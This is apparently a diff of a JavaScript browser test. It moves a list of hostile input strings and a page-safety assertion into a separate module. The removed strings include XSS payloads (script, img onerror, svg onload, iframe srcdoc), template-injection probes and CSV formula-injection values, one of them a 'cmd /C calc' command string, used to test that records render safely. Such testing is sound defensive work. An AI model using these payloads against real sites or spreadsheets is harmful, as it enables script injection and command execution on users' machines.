@@ -5,40 +5,10 @@ import assert from 'node:assert/strict'
 import { readFileSync, writeFileSync } from 'node:fs'
 import path from 'node:path'
 import { as, base, batch, call, make, shot } from './browser.mjs'
-
-const strings = [
-  '<script>window.__xss=1;alert(1)</script>',
-  '"><img src=x onerror="window.__xss=1;alert(1)">',
-  "'><svg/onload=window.__xss=1>",
-  'javascript:window.__xss=1//',
-  '${window.__xss=1}{{constructor.constructor("window.__xss=1")()}}<%= 1 %>',
-  '=HYPERLINK("http://x.example/"&A1,"点击")',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
-  '\u202E司公限有正反\u202C\u2066\u2067',
-  '👩‍👩‍👧‍👦🏳️‍🌈 e\u0301\u0301\u0301\u0301',
-  '𠮷野家𡈽𠀋生僻字店',
-  '超'.repeat(57) + '尾',
-  'W'.repeat(58),
-  'a\u0000b\u0007c'.replaceAll('\u0000', '') + '\u200B\uFEFF零宽',
-  '<iframe srcdoc="<script>parent.__xss=1</script>">',
-  '&lt;b&gt;&#x3C;i&#x3E;',
-]
+import { sound, strings } from './attack.mjs'
 
 /** The cells of a CSV, as a spreadsheet reads them. */
 const cells = (text) => [...text.replace(/^\uFEFF/, '').matchAll(/("(?:[^"]|"")*"|[^,\r\n]*)(?:,|\r?\n|$)/g)].map((m) => m[1].replace(/^"|"$/g, '').replaceAll('""', '"'))
-
-/** A page as it stands: nothing ran, nothing sticks out at the side. */
-async function sound(page, where) {
-  assert.equal(await page.evaluate(() => window.__xss), undefined, where)
-  assert.equal(await page.evaluate(() => document.querySelectorAll('#root script, #root iframe, #root img[src=x], .ant-modal iframe').length), 0, where)
-  const wide = await page.evaluate(() => {
-    const main = document.querySelector('#page')
-    return [document.documentElement.scrollWidth - innerWidth, main ? main.scrollWidth - main.clientWidth : 0]
-  })
-  assert.ok(wide[0] <= 0 && wide[1] <= 1, `${where} is ${wide} px too wide`)
-  const out = await page.evaluate(() => [...document.querySelectorAll('.phead button, .card > header *, .dossier *')].filter((e) => e.getBoundingClientRect().right > innerWidth + 1).map((e) => e.textContent))
-  assert.deepEqual(out, [], `${where}: beyond the edge of the screen`)
-}
 
 test('records with hostile values on list, panel, record, print, search and dossier', async () => {
   const o = await as('wangfang', { allow: ['422'] })
